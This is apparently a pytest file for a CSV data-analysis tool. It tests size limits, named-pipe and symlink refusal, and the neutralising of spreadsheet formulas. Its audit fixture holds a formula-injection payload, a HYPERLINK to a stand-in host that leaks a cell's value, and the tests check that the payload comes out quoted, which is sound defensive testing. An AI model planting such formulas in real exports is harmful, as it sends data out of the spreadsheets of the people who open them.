"""Issue #16: inputs the suite refuses before reading them (too large, not a regular file),
`validate` going on after an unusable file, and `clean` never writing through a link or a
formula a spreadsheet would run."""

from __future__ import annotations

import csv
import hashlib
import os
import re
from pathlib import Path

import pytest

from yosanalysis.cli import main
from yosanalysis.errors import ConfigError, InputError
from yosanalysis.io import check_input

INSPECTION = (
    "Service,Inspection,Framework,Date,Theme,Item,Score (%)\n"
    "Stockton-on-Tees,SQS 2013,SQS,25/11/2013,Protecting the public,Risk of harm,85\n"
)
AUDIT = (
    "Service,Audit,Date,Case ref,Theme,Question,Answer,Auditor,Comment\n"
    "Stockton,2013 Q3,01/02/2013,SYN-0001,Planning,Q1,Yes,Jo Specimen,"
    "\"=HYPERLINK(\"\"http://x.invalid/?leak=\"\"&A1,\"\"open\"\")\"\n"
    "Stockton,2013 Q3,01/02/2013,SYN-0002,Planning,Q1,No,Jo Specimen,-3.5\n"
    "Stockton,2013 Q3,01/02/2013,SYN-0003,Planning,Q1,Yes,@Jo,+1 more\n"
    "Stockton,2013 Q3,31/02/2013,SYN-0004,Planning,Q1,Yes,Jo Specimen,=1+1\n"
)


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def sparse(path: Path, size: int) -> Path:
    with path.open("wb") as handle:
        handle.truncate(size)
    return path


def test_a_1_gb_input_is_refused_from_its_size_alone(tmp_path, capsys):
    big = sparse(tmp_path / "audit.csv", 1 << 30)
    for command in (["validate", str(big)], ["clean", str(big), "--out", str(tmp_path / "o")]):
        code, _, err = run(capsys, *command)
        assert code == 2
        assert err.strip().count("\n") == 0, "one message"
        assert "audit.csv: is 1,073.7 MB, larger than the limit of 200 MB" in err
        assert "--max-input-mb" in err and "Traceback" not in err


def test_the_limit_can_be_raised_or_lowered(tmp_path, capsys):
    path = tmp_path / "scores.csv"
    path.write_text(INSPECTION, encoding="utf-8")
    code, _, err = run(capsys, "validate", str(path), "--max-input-mb", "0.0001")
    assert code == 2 and "scores.csv: is 0.0 MB, larger than the limit of 0.0001 MB" in err
    code, out, _ = run(capsys, "validate", str(path))  # the limit was this command's alone
    assert code == 0 and "rows read 1, kept 1" in out
    big = sparse(tmp_path / "big.csv", 3_000_000)
    with pytest.raises(InputError, match="larger than the limit of 2 MB"):
        check_input(big, max_mb=2)
    check_input(big, max_mb=4)  # allowed


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes need a POSIX system")
def test_a_named_pipe_is_refused_and_validate_goes_on(tmp_path, capsys):
    pipe = tmp_path / "audit.csv"
    os.mkfifo(pipe)
    good = tmp_path / "scores.csv"
    good.write_text(INSPECTION, encoding="utf-8")
    big = sparse(tmp_path / "big.csv", 300_000_000)
    code, out, err = run(capsys, "validate", str(pipe), str(tmp_path), str(big), str(good))
    assert code == 2
    assert "audit.csv: is a named pipe, not a regular file" in err
    assert "is a folder, not a file" in err
    assert "big.csv: is 300.0 MB" in err
    assert "rows read 1, kept 1, rejected 0" in out  # the good file after the bad ones
    code, _, err = run(capsys, "clean", str(pipe), "--out", str(tmp_path / "out"))
    assert code == 2 and "named pipe" in err


def test_clean_through_a_planted_link_leaves_the_input_byte_identical(tmp_path, capsys):
    inputs = tmp_path / "in"
    inputs.mkdir()
    audit = inputs / "audit.csv"
    audit.write_text(AUDIT, encoding="utf-8")
    before = hashlib.sha256(audit.read_bytes()).hexdigest()
    out = tmp_path / "out"
    out.mkdir()
    (out / "audit.rejected.csv").symlink_to(audit)
    code, _, err = run(capsys, "clean", str(audit), "--out", str(out))
    assert code == 2 and "audit.rejected.csv: is a symbolic link" in err
    assert hashlib.sha256(audit.read_bytes()).hexdigest() == before
    assert not (out / "audit.clean.csv").exists(), "nothing written when one target is refused"
    (out / "audit.rejected.csv").unlink()
    (out / "audit.clean.csv").symlink_to(audit)
    code, _, err = run(capsys, "clean", str(audit), "--out", str(out))
    assert code == 2 and "audit.clean.csv: is a symbolic link" in err
    assert hashlib.sha256(audit.read_bytes()).hexdigest() == before


def formula_cells(path: Path) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as formulas: openpyxl, given each
    cell's text as a spreadsheet would take it from the file, marks them with data type 'f'."""
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.Workbook().active
    with path.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            sheet.append(row)
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            text = cell.value if isinstance(cell.value, str) else ""
            if cell.data_type == "f" or (text[:1] in ("+", "-", "@", "\t", "\r") and
                                         not _number(text)):
                found.append(text)
    return found


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_clean_writes_no_cell_a_spreadsheet_would_run(tmp_path, capsys):
    path = tmp_path / "in" / "audit.csv"
    path.parent.mkdir()
    path.write_text(AUDIT, encoding="utf-8")
    out = tmp_path / "out"
    code, _, _ = run(capsys, "clean", str(path), "--out", str(out))
    assert code == 1
    for name in ("audit.clean.csv", "audit.rejected.csv"):
        assert formula_cells(out / name) == [], name
    with (out / "audit.clean.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["comment"] for r in rows] == [
        "'=HYPERLINK(\"http://x.invalid/?leak=\"&A1,\"open\")", "-3.5", "'+1 more"]
    assert rows[2]["auditor"] == "'@Jo"
    rejected = (out / "audit.rejected.csv").read_text(encoding="utf-8")
    assert "'=1+1" in rejected


# -- the limit is an explicit parameter, from the report's file to every reader --------------
def report_file(tmp_path: Path, extra: str = "") -> Path:
    """A report's YAML with an inspection file of about 230 bytes (0.00023 MB)."""
    (tmp_path / "data").mkdir(parents=True)
    (tmp_path / "data" / "scores.csv").write_text(INSPECTION, encoding="utf-8")
    path = tmp_path / "report.yaml"
    path.write_text("service: Stockton-on-Tees\nnotebooks: [01_inspection_overview]\n"
                    "inputs:\n  inspection: data/scores.csv\n" + extra, encoding="utf-8")
    return path


def test_a_report_with_a_small_limit_refuses_the_file_everywhere_it_is_read(tmp_path):
    from yosanalysis.pages import Inputs, Params
    from yosanalysis.privacy import personal_details
    from yosanalysis.report import load_config
    from yosanalysis.report.pack import check_inputs

    cfg = load_config(report_file(tmp_path, "max_input_mb: 0.0001\n"))
    assert cfg.max_input_mb == 0.0001
    refused = "scores.csv: is 0.0 MB, larger than the limit of 0.0001 MB for an input"
    # the build's check of its inputs
    with pytest.raises(ConfigError, match=r"inputs\.inspection.*" + re.escape(refused)):
        check_inputs(cfg)
    # a notebook's kernel: the options a build hands its notebooks (`input_options`), as plain
    # JSON-like values, given to `Inputs.load` as the notebooks' loading cell does
    handed = {n: o.to_dict() for n, o in cfg.input_options.items() if not o.empty}
    assert handed == {"inspection": {"sheet": None, "columns": {}, "constants": {},
                                     "dates": None, "max_mb": 0.0001}}
    with pytest.raises(InputError, match=re.escape(refused)):
        Inputs.load(Params(service="Stockton-on-Tees"),
                    inspection=cfg.inputs["inspection"], options=handed)
    # the privacy scan, reading the inputs with the report's options
    with pytest.raises(InputError, match=re.escape(refused)):
        personal_details(cfg.inputs.values(), options=cfg.read_options())


def test_a_report_without_a_limit_reads_up_to_200_mb_and_the_command_line_overrides_it(
        tmp_path):
    from yosanalysis.report import load_config
    from yosanalysis.report.pack import check_inputs

    report = report_file(tmp_path, "max_input_mb: 0.0001\n")
    plain = load_config(report_file(tmp_path / "plain"))
    assert plain.max_input_mb == 200 and plain.input_options == {}  # nothing to hand on
    assert check_inputs(plain)["inspection"]["rows_kept"] == 1
    cfg = load_config(report, max_input_mb=5)  # --max-input-mb 5
    assert cfg.max_input_mb == 5 and cfg.input_options["inspection"].max_mb == 5
    assert check_inputs(cfg)["inspection"]["rows_kept"] == 1


@pytest.mark.parametrize("value", ["0", "-5", "big", "'500'", "true", ".nan", ".inf", "[1]"])
def test_a_bad_limit_stops_the_config_check_naming_the_key(tmp_path, capsys, value):
    report = report_file(tmp_path, f"max_input_mb: {value}\n")
    code, _, err = run(capsys, "report", "--config", str(report))
    assert code == 2
    assert err.strip().count("\n") == 0, "one message"
    assert "parameter 'max_input_mb' must be a number of megabytes above 0, e.g. 500; got" in err
    assert "Traceback" not in err


@pytest.mark.parametrize("value", ["0", "-1", "big", "nan"])
def test_a_bad_limit_on_the_command_line_is_refused_naming_the_option(tmp_path, capsys, value):
    path = tmp_path / "scores.csv"
    path.write_text(INSPECTION, encoding="utf-8")
    with pytest.raises(SystemExit) as stopped:
        main(["validate", str(path), f"--max-input-mb={value}"])
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert "argument --max-input-mb: must be a number of megabytes above 0" in err


def test_no_environment_variable_carries_the_limit():
    # the project's rule: explicit arguments, not environment variables (the name is built here
    # so that this file holds no copy of it either)
    root = Path(__file__).resolve().parents[1]
    name = "YOSANALYSIS_" + "MAX_INPUT"
    found = [p.relative_to(root).as_posix()
             for folder in ("yosanalysis", "notebooks", "tests", "scripts", "bench", "docs")
             for p in (root / folder).rglob("*")
             if p.is_file() and p.suffix in (".py", ".ipynb", ".md", ".yaml", ".sh", "")
             and name in p.read_text(encoding="utf-8", errors="replace")]
    found += [n for n in ("Makefile", "README.md", "CONTRIBUTING.md", "data/README.md")
              if name in (root / n).read_text(encoding="utf-8")]
    assert found == []


@pytest.mark.slow
def test_a_notebooks_kernel_is_handed_the_reports_limit_and_refuses_a_file_over_it(tmp_path):
    import nbformat

    from yosanalysis.report import build_pack, load_config
    from yosanalysis.report.execute import NotebookFailed, run_notebook

    notebooks = Path(__file__).resolve().parents[1] / "notebooks"
    cfg = load_config(report_file(tmp_path, "max_input_mb: 0.5\n"))
    result = build_pack(cfg, outputs=tmp_path / "outputs", notebooks_dir=notebooks, jobs=1,
                        progress=False)
    assert result.rebuilt
    executed = nbformat.read(tmp_path / "outputs" / "stockton-on-tees.analyst"
                             / "01_inspection_overview.ipynb", as_version=4)
    injected = next(c for c in executed.cells
                    if "injected-parameters" in c.metadata.get("tags", []))
    given: dict = {}
    exec(injected.source, given)  # plain assignments, as papermill wrote them
    assert given["input_options"]["inspection"]["max_mb"] == 0.5
    # the same parameters, the file now over the limit: the kernel itself refuses it
    scores = cfg.inputs["inspection"]
    row = INSPECTION.splitlines()[1] + "\n"
    scores.write_text(INSPECTION + row * (600_000 // len(row)), encoding="utf-8")
    params = {k: given[k] for k in ("service", "inspection_file", "input_options")}
    with pytest.raises(NotebookFailed, match=re.escape(
            "scores.csv: is 0.6 MB, larger than the limit of 0.5 MB")):
        run_notebook(notebooks / "01_inspection_overview.ipynb", tmp_path / "run.ipynb",
                     params, cwd=tmp_path)
